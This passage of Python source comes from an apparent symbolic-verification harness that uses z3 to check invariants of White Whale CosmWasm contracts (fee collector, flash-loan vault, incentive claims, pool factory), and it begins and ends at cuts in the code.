                    w.smart_table.append((ROUTER, it.mkv(RQ, 'SwapRoute', offer_asset_info=a, ask_asset_info=nat(it, DISTR_ASSET)), op(a) if route_ok else Opaque('query_error')))
                    w.smart_table.append((ROUTER, it.mkv(RQ, 'SimulateSwapOperations', offer_amount=U128(bal), operations=op(a)),
                                          it.mk(PN + 'router::SimulateSwapOperationsResponse', amount=U128(c.sym('sim_out', 128))) if sim_ok else Opaque('query_error')))
                # the router is not trusted to refuse a round trip: it also answers for the key (distribution asset -> distribution asset)
                loop = VecV([it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=nat(it, DISTR_ASSET), ask_asset_info=nat(it, 'uatom')),
                             it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=nat(it, 'uatom'), ask_asset_info=nat(it, DISTR_ASSET))])
                w.smart_table.append((ROUTER, it.mkv(RQ, 'SwapRoute', offer_asset_info=nat(it, DISTR_ASSET), ask_asset_info=nat(it, DISTR_ASSET)), loop))
                w.smart_table.append((ROUTER, it.mkv(RQ, 'SimulateSwapOperations', offer_amount=U128(bd), operations=loop),
                                      it.mk(PN + 'router::SimulateSwapOperationsResponse', amount=U128(c.sym('sim_loop', 128)))))
                it.extra = dict(bn=bn, bc=bc)
                return enter(it, 'fee_collector', 'execute', mk_env(it, 10**18), mk_info(COLL, []),
                             it.mkv(CX, 'AggregateFees', aggregate_fees_for=ffor(it, PFACT if source == 'Pool' else VFACT, source)))
            tag = 'aggregate.route_%s.sim_%s' % (route_ok, sim_ok) + ('' if source == 'Pool' else '.vaults')
            n = 0
            for p in ck.explore(prog, body, tag):
                ck.sample(dict(entry='fee_collector.execute(aggregate_fees)', source=source, route=route_ok, simulation=sim_ok, outcome=p.short()))
                if not p.ok: continue
                n += 1
                bn, bc = p.extra['bn'], p.extra['bc']
                eff = effects(resp_of(p), COLL)
                can = route_ok and sim_ok
                # native asset: a router call carrying exactly the balance as funds iff balance > 1000 and route + simulation ok
                calls_n = [e for e in eff if e.kind == 'call' and same(e.asset, ROUTER)]
                sent_n = sum([f.fields[1].fields[0] for e in calls_n for f in e.funds if same(f.fields[0], 'uatom')], 0)
                ck.oblige('C10.coll.aggregate.amounts.native.' + tag, p, sent_n != (z3.If(bn > MINAGG, bn, 0) if can else 0),
                          'the native asset is swapped for exactly the collector\'s balance iff balance > 1000 and route and simulation succeed; otherwise left untouched')
                shape = all(isinstance(e.msg, Enum) and e.msg.variant == 'ExecuteSwapOperations' and e.msg.fields[1].variant == 'None' and e.msg.fields[2].variant == 'None' for e in calls_n)
                ck.oblige('C10.coll.aggregate.router_msg.' + tag, p, not shape, 'the swap goes through the router\'s ExecuteSwapOperations with the proceeds coming back to the collector')
                sends_c = total(eff, 'send', 'token_x')
                ck.oblige('C10.coll.aggregate.amounts.cw20.' + tag, p, sends_c != (z3.If(bc > MINAGG, bc, 0) if can else 0), 'the cw20 asset likewise (cw20 Send to the router)')
                ck.oblige('C10.coll.aggregate.cw20_target.' + tag, p, any(e.kind == 'send' and not same(e.dst, ROUTER) for e in eff), 'cw20 fees are only ever sent to the router')
                # the distribution asset itself is never moved here; nothing is burned
                ck.oblige('C10.coll.aggregate.distr_untouched.' + tag, p, any(e.kind in ('burn', 'mint', 'pull') or (e.kind == 'send' and e.native) for e in eff) or
                          any(same(f.fields[0], DISTR_ASSET) for e in calls_n for f in e.funds), 'the distribution asset is not touched by aggregation')
                ck.oblige('C10.coll.aggregate.tmp_cleared.' + tag, p, len(p.world.storage['tmp_asset_infos'].entries) != 0, 'temporary asset list cleared')
            ck.require(n >= 1, tag + ': no Ok path')


def reply(ck, prog):
    for dao in (DAO,):
        def body(it):
            c = it.ctx; st = setup_coll(it)
            it.world.item('tmp_epoch', mk_epoch(it, c))
            bal = c.sym('coll_balance', 128)
            it.world.bank.append((Str(COLL), Str(DISTR_ASSET), bal))
            rep = Agg('cosmwasm_std::Reply', [2, Enum('cosmwasm_std::SubMsgResult', 'Ok', [Agg('cosmwasm_std::SubMsgResponse', [VecV([]), NONE()])])])
            it.extra = dict(st=st, bal=bal)
            return enter(it, 'fee_collector', 'reply', mk_env(it, 10**18), None, rep)
        n = 0
        for p in ck.explore(prog, body, 'reply'):
            ck.sample(dict(entry='fee_collector.reply(aggregation)', outcome=p.short()))
            if not p.ok: continue
            n += 1
            st = p.extra['st']; bal = p.extra['bal']; act, rate = st['active'], st['rate']
            eff = effects(resp_of(p), COLL)
            to_dao = total(eff, 'send', DISTR_ASSET, lambda e: same(e.dst, DAO)); to_dist = total(eff, 'send', DISTR_ASSET, lambda e: same(e.dst, DIST))
            others = [e for e in eff if not (e.kind == 'send' and same(e.asset, DISTR_ASSET) and (same(e.dst, DAO) or same(e.dst, DIST)))]
            T = z3.Int('T_spec'); spec = [T * E18 <= bal * rate, (T + 1) * E18 > bal * rate]
            on = z3.And(act, rate != 0)
            ck.oblige('C10.coll.reply.take_rate', p, z3.Or(to_dao != z3.If(on, T, 0), len(others) != 0), 'the DAO receives exactly floor(take_rate * balance) when the take rate is active and non-zero, nothing otherwise', lemmas=spec)
            ck.oblige('C10.coll.reply.forwarded', p, to_dist != bal - z3.If(on, T, 0), 'the distributor receives the whole rest', lemmas=spec)
            hist = p.world.storage.get('take_rate_history')
            ents = hist.entries if hist is not None else []
            okh = (len(ents) == 0) if True else False
            if len(ents) == 1:
                ck.oblige('C10.coll.reply.history', p, z3.Or(ents[0][0][0] != z3.Int('epoch_id'), ents[0][1].fields[1].fields[0] != to_dao, to_dao == 0), 'the take is recorded under the epoch id', lemmas=spec)
            else:
                ck.oblige('C10.coll.reply.history', p, z3.Or(len(ents) != 0, to_dao != 0), 'no history entry without a take')
            data = resp_of(p).fields[3]
            okd = data.variant == 'Some' and isinstance(data.fields[0].fields[0], Opaque)
            ck.oblige('C10.coll.reply.data', p, not okd, 'the reply carries the epoch back to the distributor')
            if okd:
                ep = data.fields[0].fields[0].payload.fields[0]
                tot = [a.fields[1].fields[0] for a in ep.fields[2].items]; av = [a.fields[1].fields[0] for a in ep.fields[3].items]
                ck.oblige('C10.coll.reply.forwarded_eq_total', p, z3.Or(sum(tot, 0) != to_dist, sum(av, 0) != to_dist, len(tot) > 1), 'epoch.total = epoch.available = the amount transferred to the distributor')
                ck.oblige('C20.coll.echo', p, z3.Or(ep.fields[0].fields[0] != z3.Int('epoch_id'), ep.fields[1].fields[0].fields[0] != z3.Int('epoch_start')), 'epoch id and start time echoed unchanged')
            ck.oblige('C10.coll.reply.tmp_removed', p, 'tmp_epoch' in p.world.storage, 'the temporary epoch is consumed')
            ck.oblige('C10.reply_modes.reply', p, any(sm.fields[3].variant != 'Never' for sm, _ in messages(resp_of(p))), 'transfers are plain messages: a failure reverts everything')
        ck.require(n >= 1, 'reply: no Ok path')


def main():
    ck = Check('C10')
    prog = ck.program('fee_collector', 'white_whale_std')
    forward(ck, prog); collect(ck, prog); aggregate(ck, prog); reply(ck, prog)
    ck.bounds.update(children='0..2 vaults, 1..2 pairs per factory answer', assets='one native and one cw20 non-distribution asset + the distribution asset',
                     take_rate='any Decimal < 1 (incl. 0 and 1e-18), active flag symbolic', queries='route / simulation success and failure enumerated')
    ck.outside += ['what the router and pools do with the swap message (C14/C15)', 'that pools/vaults really pay on CollectProtocolFees (C07)', 'revert atomicity (assumed)',
                   'observation: aggregate_fees grants the router a cw20 allowance for any positive balance even when no swap follows (cw20 Send needs no allowance)']
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
