"""Shared symbolic world builders and explorers for the flash-loan vault."""
import z3
from engine.harness import *

PN = 'white_whale_std::pool_network::'
VN = 'white_whale_std::vault_network::vault::'
AI = PN + 'asset::AssetInfo'
VAULT = 'vault_contract'
VLP = 'vault_lp_token'
VX = VN + 'ExecuteMsg'
ASSET_NAME = {'native': 'uluna', 'cw20': 'vault_token'}


def vinfo(it, kind):
    return it.mkv(AI, 'NativeToken', denom=Str('uluna')) if kind == 'native' else it.mkv(AI, 'Token', contract_addr=Str('vault_token'))


def vfee(it, t): return it.mk('white_whale_std::fee::Fee', share=DEC(t))


def setup_vault(it, kind='native', toggles=(True, True, True), counter=None, owner='owner'):
    """vault with balance B, pending protocol fee F, share supply S; toggles = (flash_loan, deposit, withdraw)."""
    c = it.ctx; w = it.world; w.contract = VAULT
    B, F, S = c.sym('B', 128), c.sym('F', 128), c.sym('S', 128)
    fp, fl, fb = c.sym('vfee_protocol', 128), c.sym('vfee_flash', 128), c.sym('vfee_burn', 128)
    cnt = counter if counter is not None else c.sym('loan_counter', 32)
    tog = [t if isinstance(t, bool) else t for t in toggles]
    w.item('config', it.mk(VN + 'Config', owner=ADDR(owner), asset_info=vinfo(it, kind), flash_loan_enabled=tog[0], deposit_enabled=tog[1],
                           withdraw_enabled=tog[2], lp_asset=it.mkv(AI, 'Token', contract_addr=Str(VLP)), fee_collector_addr=ADDR('collector'),
                           fees=it.mk('white_whale_std::fee::VaultFee', protocol_fee=vfee(it, fp), flash_loan_fee=vfee(it, fl), burn_fee=vfee(it, fb))))
    AS = PN + 'asset::Asset'
    at, ab = c.sym('vat', 128), c.sym('vab', 128)
    w.item('collected_protocol_fees', it.mk(AS, info=vinfo(it, kind), amount=U128(F)))
    w.item('all_time_collected_protocol_fees', it.mk(AS, info=vinfo(it, kind), amount=U128(at)))
    w.item('all_time_burned_fees', it.mk(AS, info=vinfo(it, kind), amount=U128(ab)))
    w.item('loan_counter', cnt)
    if kind == 'native': w.bank.append((Str(VAULT), Str('uluna'), B))
    else: w.cw20.append((Str('vault_token'), Str(VAULT), B))
    w.cw20_info[VLP] = dict(total_supply=S, decimals=6)
    c.assume(fp < E18); c.assume(fl < E18); c.assume(fb < E18); c.assume(fp + fl + fb < E18)
    c.assume(at < 2**127); c.assume(ab < 2**127)
    return dict(B=B, F=F, S=S, fees=(fp, fl, fb), at=at, ab=ab, counter=cnt, kind=kind)


def deposit_body(kind, first=False, toggles=(True, True, True), counter=0, allowance_exact=True):
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind, toggles, counter)
        amt = c.sym('amount', 128)
        # Inv: pending fees are held; for a native vault the attached deposit is already in the balance
        c.assume(st['F'] + (amt if kind == 'native' else 0) <= st['B'])
        if first: c.assume(st['S'] == 0)
        else: c.assume(st['S'] >= 1)
        funds = []
        if kind == 'native': funds = [COIN('uluna', c.sym('attached', 128))]
        else: it.world.allow.append((Str('vault_token'), Str('depositor'), Str(VAULT), c.sym('allowance', 128)))
        it.extra = dict(st=st, amount=amt)
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info('depositor', funds), it.mkv(VX, 'Deposit', amount=U128(amt)))
    return body


def withdraw_body(kind, toggles=(True, True, True), sender=VLP):
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind, toggles)
        amt = c.sym('amount', 128)
        c.assume(st['F'] <= st['B']); c.assume(amt <= st['S'])
        hook = it.mkv(VN + 'Cw20HookMsg', 'Withdraw')
        msg = it.mkv(VX, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('holder'), amount=U128(amt), msg=BIN(hook)))
        it.extra = dict(st=st, amount=amt)
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info(sender, []), msg)
    return body


def flash_loan_body(kind, toggles=(True, True, True)):
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind, toggles)
        amt = c.sym('loan', 128)
        c.assume(st['F'] <= st['B'])
        it.extra = dict(st=st, loan=amt)
        msg = it.mkv(VX, 'FlashLoan', amount=U128(amt), msg=BIN(Str('borrower-payload')))
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info('borrower', []), msg)
    return body


def after_trade_body(kind, sender=VAULT, sym_sender=False):
    """AfterTrade from an arbitrary state: the adversary (borrower, re-entrancy included) can only have produced *some* balance
    and *some* ledger; `B` here is the balance now (new_balance), old_balance and loan_amount are arbitrary."""
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind)
        old, loan = c.sym('old_balance', 128), c.sym('loan', 128)
        # counters are bounded by the tokens that exist: adding this loan's fees cannot overflow them
        c.assume(st['at'] + loan < 2**128); c.assume(st['ab'] + loan < 2**128); c.assume(st['F'] + loan < 2**128)
        it.extra = dict(st=st, old=old, loan=loan)
        snd = ADDR(Str(None, sym=c.sym('cb_sender'))) if sym_sender else sender
        msg = it.mkv(VX, 'Callback', it.mkv(VN + 'CallbackMsg', 'AfterTrade', old_balance=U128(old), loan_amount=U128(loan)))
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info(snd, []), msg)
    return body


def vcollect_body(kind, sender='anyone'):
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind)
        c.assume(st['F'] <= st['B'])
        it.extra = dict(st=st)
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info(sender, []), it.mkv(VX, 'CollectProtocolFees'))
    return body


def vupdate_fees_body(kind):
    def body(it):
        c = it.ctx
        st = setup_vault(it, kind)
        c.assume(st['F'] <= st['B'])
        nf = [c.sym('new_vfee_protocol', 128), c.sym('new_vfee_flash', 128), c.sym('new_vfee_burn', 128)]
        vf = it.mk('white_whale_std::fee::VaultFee', protocol_fee=vfee(it, nf[0]), flash_loan_fee=vfee(it, nf[1]), burn_fee=vfee(it, nf[2]))
        params = it.mk(VN + 'UpdateConfigParams', flash_loan_enabled=NONE(), deposit_enabled=NONE(), withdraw_enabled=NONE(), new_owner=NONE(),
                       new_vault_fees=SOME(vf), new_fee_collector_addr=NONE())
        it.extra = dict(st=st, new_fees=nf)
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info('owner', []), it.mkv(VX, 'UpdateConfig', params))
    return body


def vledger(p, ns): return p.world.storage[ns].fields[1].fields[0]
