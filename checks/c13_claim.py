"""C13, claim part: bounded, single, and as quoted.  Epoch ids are small concrete integers (the loop bounds), every amount and
weight is symbolic."""
import z3
from lib_inc import *

CUR = 10


def claim_world(it, last_claimed, nflows=1, expanded=False, start=5, end=20, hist_epochs=None, tame=False):
    c = it.ctx
    st = setup_inc(it, 'native', epoch=CUR)
    w = it.world
    w.map('open_positions', []); w.map('closed_positions', []); w.map('address_weight', [([Str('alice')], U128(c.sym('alice_weight', 128)))])
    w.item('global_weight', U128(c.sym('global_weight', 128))); w.item('flow_counter', nflows)
    # weight history: an entry at last_claimed+1 (written by the previous claim / position change) and possibly one later change
    first = (last_claimed + 1) if last_claimed is not None else start - 1
    if hist_epochs is None: hist_epochs = [first] + ([first + 1] if first + 1 <= CUR else [])
    first = min(first, hist_epochs[0])
    hist = [([Str('alice'), e], U128(c.sym('uw_%s' % 'abcd'[i], 120))) for i, e in enumerate(hist_epochs)]
    w.map('address_weight_snapshot', hist)
    c.assume(z3.Int('alice_weight') == hist[-1][1].fields[0])          # Inv: ADDRESS_WEIGHT is the latest history entry
    snaps = []
    gws = {}
    for e in range(min(first, start) , CUR + 1):
        g = c.sym('gw_%d' % e, 120); gws[e] = g
        snaps.append(([e], U128(g)))
        if tame:
            # prune the InvalidReward / overflow branches: shares <= 1 and moderate magnitudes (the differential claim-vs-query
            # obligation is about the paid paths)
            for i in range(len(hist_epochs)): c.assume(c.sym('uw_%s' % 'abcd'[i], 120) == 250 + 150 * i)
            c.assume(g == 1000)            # concrete snapshot: divisions by constants keep the path conditions cheap
    w.map('global_weight_snapshot', snaps)
    w.map('last_claimed_epoch', [([Str('alice')], last_claimed)] if last_claimed is not None else [])
    flows = []; fl = []
    for i in range(nflows):
        amt = c.sym('fl%d_amount' % i, 120); claimed = c.sym('fl%d_claimed' % i, 120)
        hist_m = MapV('BTreeMap', [])
        total = amt
        if expanded and i == 0:
            x = c.sym('fl0_expanded', 121); c.assume(x >= amt)
            hist_m = MapV('BTreeMap', [[start + 2, Agg('tuple', [U128(x), end + 5])]]); total = x
        c.assume(claimed <= total)
        if tame: c.assume(total < 2**40); c.assume(claimed == 0)
        # emitted_tokens holds cumulative emissions of already processed epochs (none recorded here: a fresh flow record)
        fstart = start + (i if tame else 0)        # in the gap configuration later flows start inside the gap of the weight history
        f = it.mk(I + 'Flow', flow_id=i + 1, flow_label=NONE(), flow_creator=ADDR('creator'), flow_asset=masset(it, 'native', 'ureward%d' % i, amt), claimed_amount=U128(claimed),
                  curve=it.mkv(I + 'Curve', 'Linear'), start_epoch=fstart, end_epoch=end, emitted_tokens=MapV('HashMap', []), asset_history=hist_m)
        flows.append(([fstart, i + 1], f)); fl.append(dict(amount=amt, claimed=claimed, total=total))
    w.map('flows', flows)
    st.update(flows=fl, gws=gws)
    return st


def flow_after(p, i):
    return p.world.storage['flows'].entries[i][1]


def run(ck, c12_only=False):
    prog = ck.program('incentive', 'white_whale_std')
    cfgs = [(8, 1, False, 5, None), (8, 1, True, 5, None), (None, 1, False, 9, None), (None, 2, False, 8, [8, 10]), (8, 0, False, 5, [9, 11]), (None, 0, False, 5, [10, 11]), (None, 1, False, 8, [6, 7])]
    if ck.tier == 'thorough': cfgs += [(7, 1, False, 5, None), (8, 2, False, 5, None), (7, 1, True, 5, None), (None, 1, False, 8, None)]
    if c12_only:
        # the C12 part: only the funded-amount bound, on the configurations with fully symbolic amounts
        cfgs = [x for x in cfgs if x[4] is None]
    for last, nflows, expanded, start, hist_epochs in cfgs:
        tag = 'claim.last%s.f%d%s.s%d%s' % (last, nflows, '.exp' if expanded else '', start, '.gap' if hist_epochs else '')
        # ---- differential: rewards query immediately before the claim, same state ----
        def body(it, last=last, nflows=nflows, expanded=expanded, start=start, hist_epochs=hist_epochs):
            st = claim_world(it, last, nflows, expanded, start=start, hist_epochs=hist_epochs, tame=hist_epochs is not None)
            env = mk_env(it, 10**18)
            q = enter(it, 'incentive', 'query', env, None, it.mkv(I + 'QueryMsg', 'Rewards', address=Str('alice')))
            it.extra = dict(st=st, q=q)
            return enter(it, 'incentive', 'execute', env, mk_info('alice', []), it.mkv(IX, 'Claim'))
        n = 0
        for p in ck.explore(prog, body, tag, unroll=60):
            ck.sample(dict(diff='incentive query(Rewards) vs execute(Claim)', last_claimed=last, flows=nflows, expanded=expanded, outcome=p.short()))
            if 'st' not in p.extra: continue
            st = p.extra['st']; q = p.extra['q']
            if p.ok:
                n += 1
                eff = effects(resp_of(p), INC)
                ck.oblige('C13.claim.recipient.' + tag, p, any(not (e.kind == 'send' and same(e.dst, 'alice')) for e in eff), 'rewards go to the claimer only')
                for i, f in enumerate(st['flows']):
                    name = 'ureward%d' % i
                    paid = total(eff, 'send', name)
                    fa = flow_after(p, i)
                    claimed2 = fa.fields[4].fields[0]
                    ck.oblige('C13.claim.claimed_ledger.%s.f%d' % (tag, i), p, claimed2 != f['claimed'] + paid, 'claimed amount grows by exactly what is paid')
                    ck.oblige('C12.claim.le_funded.%s.f%d' % (tag, i), p, claimed2 > f['total'], 'claims never exceed the funded (expanded) amount')
                    if c12_only: continue
                    # per epoch: reward <= emission  (emitted_tokens is cumulative)
                    em = {k: v.fields[0] for k, v in fa.fields[8].pairs}
                    sends = [e for e in eff if e.kind == 'send' and same(e.asset, name)]
                    ck.oblige('C13.claim.reward_le_emission.%s.f%d' % (tag, i), p,
                              z3.Or(*[e.amount > (sorted(em.items())[-1][1] if em else 0) for e in sends]) if sends else False,
                              'no single payout exceeds the cumulative emission of the flow (each is bounded by its epoch\'s emission in the code\'s own check)')
                    # concrete-weight configurations: the weight a claim uses for an epoch is the history entry in force at that epoch (the latest one
                    # recorded for an epoch <= it), over that epoch's snapshot: paid = sum_e floor(emission_e * w_e / gw_e)
                    if hist_epochs is not None and nflows == 1:
                        cum = sorted((k, v) for k, v in em.items()); prev = 0; want = 0
                        for e_id, cumv in cum:
                            emission = z3.simplify(zint(cumv) - zint(prev)); prev = cumv
                            inforce = [j for j, he in enumerate(hist_epochs) if he <= e_id]
                            w_e = (250 + 150 * inforce[-1]) if inforce else 0
                            share = w_e * E18 // 1000            # Decimal::from_ratio(w, 1000)
                            want = want + p.div(emission * share, E18)
                        ck.oblige('C13.claim.weight_in_force.%s.f%d' % (tag, i), p, paid != want, 'each epoch is paid with the weight in force at that epoch (latest history entry not after it), over that epoch\'s snapshot',
                                  site='claim weight in force')
                    # as quoted
                    if q.variant == 'Ok':
                        quoted = 0
                        for a in q.fields[0].fields[0].payload.fields[0].items:
                            if same(a.fields[0].fields[0], name): quoted = quoted + a.fields[1].fields[0]
                        ck.oblige('C13.claim.eq_query.%s.f%d' % (tag, i), p, paid != quoted, 'a successful claim pays exactly what the rewards query reported immediately before')
                if c12_only: continue
                ck.oblige('C13.claim.query_ok.' + tag, p, q.variant != 'Ok', 'the rewards query succeeds whenever the claim does')
                # the weight history after a claim: one entry, for the next epoch, holding the weight the user has NOW (Inv: ADDRESS_WEIGHT equals the latest
                # history entry, which a position change made in the current epoch has written for the next epoch)
                hist_after = [(k, v) for k, v in p.world.storage['address_weight_snapshot'].entries if same(sname(k[0]), 'alice')]
                cur_w = z3.Int('alice_weight')
                okh = len(hist_after) == 1 and not is_sym(hist_after[0][0][1]) and hist_after[0][0][1] == CUR + 1
                ck.oblige('C13.claim.history_next.' + tag, p, (not okh) or zint(hist_after[0][1].fields[0]) != cur_w,
                          'after a claim the weight recorded for the next epoch is the weight the user holds now (a position change made earlier in this epoch is not lost)',
                          site='claim rewrites the next-epoch history entry')
                lc = p.world.storage['last_claimed_epoch'].entries
                ck.oblige('C13.claim.cursor.' + tag, p, len(lc) != 1 or lc[0][1] != CUR, 'the claim cursor moves to the current epoch')
        ck.require(n >= 1, tag + ': no Ok claim path')
    if c12_only:
        ck.bounds.update(claim='claim part: current epoch 10, cursor 8 (thorough 7) or absent, one flow (thorough two), 0-1 expansion; pre-state claimed amount arbitrary <= funded')
        return
    # ---- twice in one epoch ----
    def body2(it):
        st = claim_world(it, 8, 1, False)
        env = mk_env(it, 10**18)
        r1 = enter(it, 'incentive', 'execute', env, mk_info('alice', []), it.mkv(IX, 'Claim'))
        if r1.variant != 'Ok': raise PathPruned()
        return enter(it, 'incentive', 'execute', env, mk_info('alice', []), it.mkv(IX, 'Claim'))
    n = 0
    for p in ck.explore(prog, body2, 'claim.twice', unroll=60):
        n += 1
        ck.oblige('C13.claim.twice', p, p.ok and len(effects(resp_of(p), INC)) != 0, 'a user who claims twice within one epoch is paid nothing the second time')
    ck.require(n >= 1, 'claim twice: second claim never reached')
    ck.bounds.update(claim='current epoch 10, cursor 7/8 (thorough 6) or absent, 1-2 flows, 0-1 expansion; epoch ids concrete, all amounts/weights/snapshots symbolic (< 2^120)')
    ck.outside.append('more than 4 unclaimed epochs per claim (cap is 100): same loop body, deeper unrolling')
