"""C19 — factories and router: one child per asset set; the registry tells the truth.
Asset identities are concrete byte strings (pair_key / trio_key are byte-string code), every permutation of a small universe is run;
code ids, decimals, fees, reply addresses, pagination limits are symbolic."""
import sys, os, itertools
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from engine.harness import *
from engine.models_cw import instantiate_reply
import c16 as C16
import lib_vault as LV, lib_inc as LI

PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
FX = PN + 'factory::ExecuteMsg'; FQ = PN + 'factory::QueryMsg'
PF = 'pool_factory_contract'
UNIVERSE = [('native', 'uluna'), ('native', 'uusd'), ('cw20', 'token_aa'), ('native', 'uatom')]


def ainfo(it, a): return it.mkv(AI, 'NativeToken', denom=Str(a[1])) if a[0] == 'native' else it.mkv(AI, 'Token', contract_addr=Str(a[1]))


def pf_world(it):
    C16.pfactory_setup(it)
    c = it.ctx; w = it.world
    for kind, name in UNIVERSE:
        if kind == 'native':
            w.smart_table.append((PF, it.mkv(FQ, 'NativeTokenDecimals', denom=Str(name)), it.mk(PN + 'factory::NativeTokenDecimalsResponse', decimals=c.sym('dec_' + name, 8))))
        else:
            w.cw20_info[name] = dict(total_supply=c.sym('supply_' + name, 128), decimals=6)


def create_pair_msg(it, a, b, stable=False):
    return it.mkv(FX, 'CreatePair', asset_infos=Agg('array', [ainfo(it, a), ainfo(it, b)]), pool_fees=C16.fee3(it, PN + 'pair::', it.ctx.sym('cp_fee_p', 64), it.ctx.sym('cp_fee_s', 64), 0),
                  pair_type=it.mkv(PN + 'asset::PairType', 'StableSwap', amp=it.ctx.sym('cp_amp', 64)) if stable else it.mkv(PN + 'asset::PairType', 'ConstantProduct'), token_factory_lp=False)


def pair_info_answer(it, addr, a, b):
    """what the new pair reports about itself"""
    return it.mk(PN + 'asset::PairInfo', asset_infos=Agg('array', [ainfo(it, a), ainfo(it, b)]), contract_addr=Str(addr), liquidity_token=it.mkv(AI, 'Token', contract_addr=Str('lp_of_' + addr)),
                 asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'))


def pool_factory(ck):
    prog = ck.program('terraswap_factory', 'white_whale_std')
    pairs = list(itertools.permutations(UNIVERSE, 2)) if ck.tier == 'thorough' else [(UNIVERSE[0], UNIVERSE[1]), (UNIVERSE[1], UNIVERSE[0]), (UNIVERSE[2], UNIVERSE[0]), (UNIVERSE[0], UNIVERSE[2])]
    for a, b in pairs:
        tag = '%s_%s' % (a[1], b[1])
        def body(it, a=a, b=b):
            it.extra = {}; c = it.ctx; pf_world(it); env = mk_env(it, 10**18)
            # 1. create(a, b)
            r1 = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_pair_msg(it, a, b))
            if r1.variant != 'Ok': raise PathPruned()
            it.extra['r1'] = r1
            # 2. the instantiate reply with the new pair's address
            addr = 'new_pair_addr'
            it.world.smart_table.append((addr, it.mkv(PN + 'pair::QueryMsg', 'Pair'), pair_info_answer(it, addr, a, b)))
            r2 = enter(it, 'terraswap_factory', 'reply', env, None, instantiate_reply(1, addr))
            if r2.variant != 'Ok': raise PathPruned()
            it.extra['entries_after_reply'] = [(list(k), dup(v)) for k, v in it.world.storage['pair_info'].entries]
            # 3. the registry answers for both asset orders
            qa = enter(it, 'terraswap_factory', 'query', env, None, it.mkv(FQ, 'Pair', asset_infos=Agg('array', [ainfo(it, b), ainfo(it, a)])))
            it.extra['q_swapped'] = qa
            # 4. create(b, a): the same unordered pair
            r3 = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_pair_msg(it, b, a))
            it.extra['r3'] = r3
            # 4b. the same unordered pair again, this time as another pool type: still the same asset set
            it.extra['r3s'] = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_pair_msg(it, b, a, stable=True))
            # 5. remove (given in the other order), then the pair can be created again
            r4 = enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), it.mkv(FX, 'RemovePair', asset_infos=Agg('array', [ainfo(it, b), ainfo(it, a)])))
            it.extra['r4'] = r4; it.extra['entries_after_remove'] = len(it.world.storage['pair_info'].entries)
            return enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), create_pair_msg(it, a, b))
        n = 0
        for p in ck.explore(prog, body, 'pool_factory.' + tag):
            if 'r4' not in p.extra: continue
            n += 1
            ck.sample(dict(history='create(%s,%s); reply; query(swapped); create(swapped); remove(swapped); create' % (a[1], b[1]), outcome=p.short()))
            r1 = p.extra['r1']; ents = p.extra['entries_after_reply']
            subs = messages(r1.fields[0])
            okm = len(subs) == 1 and subs[0][1].variant == 'Wasm' and subs[0][1].fields[0].variant == 'Instantiate' and subs[0][0].fields[3].variant == 'Success'
            ck.oblige('C19.factory.create.submsg.' + tag, p, not okm, 'create emits exactly one instantiate submessage (reply on success)')
            ck.oblige('C19.factory.create.one_entry.' + tag, p, len(ents) != 1, 'the reply registers exactly one entry')
            if okm and len(ents) == 1:
                inst = subs[0][1].fields[0]; im = inst.fields[2].fields[0].payload
                ent = ents[0][1]
                g = lambda v, nm: [x for x, f in zip(v.fields, prog.adts[v.name]['variants'][0]['fields']) if f[0] == nm][0]
                from engine.models_std import struct_eq
                same_assets = all(same(deref(g(ent, 'asset_infos')).fields[i].fields[0].fields[0] if isinstance(deref(g(ent, 'asset_infos')).fields[i].fields[0], Agg) else deref(g(ent, 'asset_infos')).fields[i].fields[0],
                                       g(im, 'asset_infos').fields[i].fields[0]) for i in (0, 1))
                dec_eq = z3.And(*[zint(g(ent, 'asset_decimals').fields[i]) == zint(g(im, 'asset_decimals').fields[i]) for i in (0, 1)])
                ck.oblige('C19.factory.reply.entry_eq_msg.' + tag, p, z3.Or(not same_assets, z3.Not(dec_eq), g(ent, 'pair_type').variant != g(im, 'pair_type').variant,
                                                                           not same(g(ent, 'contract_addr').fields[0], 'new_pair_addr'), not same(g(ent, 'liquidity_token').fields[0].fields[0], 'lp_of_new_pair_addr'),
                                                                           zint(inst.fields[1]) != 11, zint(g(im, 'token_code_id')) != 13),
                          'the registry entry (address, assets, decimals, pool type, LP token) equals what was instantiated and what the child reports; the configured code ids are used')
                ck.oblige('C19.factory.create.fees_forwarded.' + tag, p, z3.Or(g(g(g(im, 'pool_fees'), 'protocol_fee'), 'share').fields[0] != z3.Int('cp_fee_p'),
                                                                               g(g(g(im, 'pool_fees'), 'swap_fee'), 'share').fields[0] != z3.Int('cp_fee_s')), 'the caller\'s fees reach the child unchanged')
            q = p.extra['q_swapped']
            ck.oblige('C19.factory.key.perm.pair.' + tag, p, not (q.variant == 'Ok' and same(q.fields[0].fields[0].payload.fields[1], 'new_pair_addr')), 'the registry finds the pair whatever the order of the assets')
            r3 = p.extra['r3']
            ck.oblige('C19.factory.create.dup.pair.' + tag, p, not (r3.variant == 'Err' and deref(r3.fields[0]).variant == 'ExistingPair'), 'a second pair for the same unordered assets is refused')
            r3s = p.extra['r3s']
            ck.oblige('C19.factory.create.dup.pair.other_type.' + tag, p, not (r3s.variant == 'Err' and deref(r3s.fields[0]).variant == 'ExistingPair'),
